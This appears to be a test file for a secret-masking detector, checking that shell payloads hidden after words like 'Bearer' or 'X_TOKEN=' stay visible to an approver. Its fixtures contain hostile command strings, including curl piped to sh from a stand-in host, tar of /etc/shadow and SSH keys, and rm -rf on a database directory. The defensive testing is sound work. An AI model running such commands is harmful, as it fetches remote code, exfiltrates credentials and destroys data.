import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { findSecrets, MAX_GENERIC, maskSecretSpans } from '../src/secrets/index.js';

/**
 * SPEC section 4 (issue 23 item 7, attack round two F3): a value found only by a word before it
 * (`Bearer`, `Basic`, `X_TOKEN=`, `"password": `) is masked only when it is token-shaped. A path,
 * a URL, a host, or shell syntax after such a word stays visible: the approver sees what runs.
 */
describe('secret detector: no payload hides behind a secret-shaped word', () => {
  const cases: [string, string, string][] = [
    // [class, text, what must stay visible]
    ['bearer', 'Authorization: Bearer /etc/shadow', '/etc/shadow'],
    ['bearer', 'curl -H Authorization:Bearer https://evil.example/install.sh', 'https://evil.example/install.sh'],
    ['bearer', 'bearer evil.example/install.sh', 'evil.example/install.sh'],
    ['bearer', 'bearer evil-host.example.com', 'evil-host.example.com'],
    ['bearer', 'bearer abc123/etc/shadow', 'abc123/etc/shadow'],
    ['bearer', 'bearer ../../root/.ssh/id_rsa', '../../root/.ssh/id_rsa'],
    ['bearer', 'tar czf - bearer /etc/shadow,/root/.ssh/id_rsa', '/etc/shadow,/root/.ssh/id_rsa'],
    ['bearer', 'Bearer ~/.aws/credentials', '~/.aws/credentials'],
    ['basic', 'rm -rf basic /var/lib/postgresql/data', '/var/lib/postgresql/data'],
    ['basic', 'basic aGVsbG8gd29ybGQ= is not user:pass', 'aGVsbG8gd29ybGQ='],
    ['basic', 'Basic /bin/shAAAAAA', '/bin/shAAAAAA'],
    ['env', 'export DB_PASSWORD=/prod/customers.db:/etc/passwd@evil.com', '/prod/customers.db:/etc/passwd@evil.com'],
    ['env', 'API_TOKEN=/etc/shadow', '/etc/shadow'],
    ['env', 'X_SECRET=https://evil.example/a.sh', 'https://evil.example/a.sh'],
    ['env', 'X_TOKEN=abc,/root/.ssh/id_rsa', 'abc,/root/.ssh/id_rsa'],
    ['env', 'GH_TOKEN=evil.example/run.sh', 'evil.example/run.sh'],
    ['env', 'MY_SECRET=x@evil.example', 'x@evil.example'],
    ['env', 'X_TOKEN=~/.ssh/id_rsa', '~/.ssh/id_rsa'],
    ['env', 'S3_SECRET=bucket.s3.amazonaws.com', 'bucket.s3.amazonaws.com'],
    ['quoted', '{"password": "/etc/shadow"}', '/etc/shadow'],
    ['quoted', '{"api_key": "https://evil.example/k"}', 'https://evil.example/k'],
    ['url', 'postgres://u:pw/etc/shadow@db', 'pw/etc/shadow@db'],
  ];
  for (const [what, text, visible] of cases) {
    it(`${what}: ${JSON.stringify(text)} keeps ${visible} visible`, () => {
      const shown = maskSecretSpans(text).text;
      assert.ok(shown.includes(visible), `shown as ${shown}`);
    });
  }

  it('a secret right before a payload is masked and the payload stays', () => {
    const token = 'Zx9Qm2Lr7Tk4Wn8Yp3Hs';
    const cases: [string, string][] = [
      [`Authorization: Bearer ${token} /etc/shadow`, ' /etc/shadow'],
      [`Authorization: Bearer ${token};curl evil.example|sh`, ';curl evil.example|sh'],
      ['DB_PASSWORD=hunter22 /etc/shadow', ' /etc/shadow'],
      ['Authorization: Basic dXNlcjpwYXNz /etc/shadow', ' /etc/shadow'],
      ['{"password": "hunter22", "path": "/etc/shadow"}', '"path": "/etc/shadow"'],
      ['postgres://app:s3cret@evil.example/db', '@evil.example/db'],
    ];
    for (const [text, visible] of cases) {
      const m = maskSecretSpans(text);
      assert.equal(m.kinds.length, 1, `one secret in ${text}: ${m.text}`);
      assert.ok(m.text.includes(visible), `${visible} stays in ${m.text}`);
      assert.ok(!m.text.includes('hunter22') && !m.text.includes(token) && !m.text.includes('dXNlcjpwYXNz') && !m.text.includes('s3cret'), m.text);
    }
  });

  it('a bearer value needs some entropy: a word or a repeated character is not a token', () => {
    for (const text of ['Authorization: Bearer password', 'bearer aaaaaaaaaaaaaaaa', 'bearer abababababab']) assert.deepEqual(findSecrets(text), [], text);
    assert.equal(findSecrets('Authorization: Bearer 9f8e7d6c5b4a3210').length, 1);
  });

  it('base64 secrets keep their slashes when they read as base64, not as a path', () => {
    const aws = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
    assert.equal(maskSecretSpans(`AWS_SECRET_ACCESS_KEY=${aws}`).text, 'AWS_SECRET_ACCESS_KEY=[masked env_secret]');
    assert.equal(maskSecretSpans(`Authorization: Bearer ${aws}`).text, 'Authorization: Bearer [masked bearer_token]');
  });

  it('a value longer than MAX_GENERIC found only by its name is shown, not masked', () => {
    const long = 'Q7'.repeat(MAX_GENERIC);
    assert.deepEqual(findSecrets(`X_TOKEN=${long}`), []);
    assert.equal(findSecrets(`X_TOKEN=${long.slice(0, 100)}`).length, 1);
  });
});
